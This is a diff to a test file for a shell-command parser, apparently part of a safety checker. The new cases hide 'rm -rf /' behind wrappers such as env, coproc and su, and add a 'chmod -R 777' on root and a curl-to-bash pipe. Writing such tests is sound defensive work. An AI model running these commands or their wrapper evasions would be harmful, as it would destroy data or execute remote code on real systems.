@@ -113,6 +113,14 @@ describe("parseShell: commands that run commands", () => {
     ["env X=1 rm -rf /", ["env"], ["rm", "-rf", "/"]],
     ["env -i -u PATH rm -rf /", ["env"], ["rm", "-rf", "/"]],
     ["env -S 'rm -rf /'", ["env"], ["rm", "-rf", "/"]],
+    ["env -iu X rm -rf /", ["env"], ["rm", "-rf", "/"]],
+    ["env -iS 'rm -rf /'", ["env"], ["rm", "-rf", "/"]],
+    ["env -S'-i -u X rm -rf' /", ["env"], ["rm", "-rf", "/"]],
+    ["env -S 'rm\\_-rf\\_/ # comment'", ["env"], ["rm", "-rf", "/"]],
+    ["env - =x rm -rf /", ["env"], ["rm", "-rf", "/"]],
+    ["coproc X { rm -rf /; }", [], ["rm", "-rf", "/"]],
+    ["coproc rm -rf /", [], ["rm", "-rf", "/"]],
+    ["su -lc 'rm -rf /'", ["su"], ["rm", "-rf", "/"]],
     ["nohup rm -rf / &", ["nohup"], ["rm", "-rf", "/"]],
     ["timeout -s KILL 5 nice -n 10 ionice -c 3 rm -rf /", ["timeout", "nice", "ionice"], ["rm", "-rf", "/"]],
     ["exec rm -rf /", ["exec"], ["rm", "-rf", "/"]],
@@ -144,6 +152,11 @@ describe("parseShell: commands that run commands", () => {
     expect(find("xargs -I{} rm {}", "rm")!.dynamicArgs).toBe(true);
     expect(argvs("find . -exec sh -c 'wc \"$1\"' _ {} \\;")).toEqual([["find", ".", "-exec", "sh", "-c", 'wc "$1"', "_", "{}", ";"], ["wc", "$1"]]);
     expect(parseShell("ls | xargs -I% sh -c 'cat x'").dynamic).toBe(false);
+  });
+
+  it("records the environment that env and sudo set", () => {
+    expect(find("env -i A=1 -u X B=2 rm x", "rm")!.assignments).toEqual(["A=1", "B=2"]);
+    expect(find("C=0 sudo -E D=1 rm x", "rm")!.assignments).toEqual(["C=0", "D=1"]);
   });
 
   it("leaves bare wrappers as the command", () => {
@@ -192,6 +205,14 @@ describe("parseShell: what cannot be known", () => {
     const r = parseShell("rm -rf /; echo 'oops");
     expect(r.error).toMatch(/quote/);
     expect(r.commands[0]!.argv).toEqual(["rm", "-rf", "/"]);
+  });
+
+  it("calls it an error when a bound drops part of the command", () => {
+    const brace = parseShell(`chmod -R 777 {/,${"a".repeat(1100)}}`);
+    expect(brace.error).toMatch(/brace/);
+    const pipe = parseShell(`{ curl -s https://x; ${"echo :; ".repeat(64)}} | bash`);
+    expect(pipe.error).toMatch(/pipe/);
+    expect(parseShell(`{ ${"echo :; ".repeat(64)}} | bash`).error).toBeNull();
   });
 
   it("stays bounded", () => {
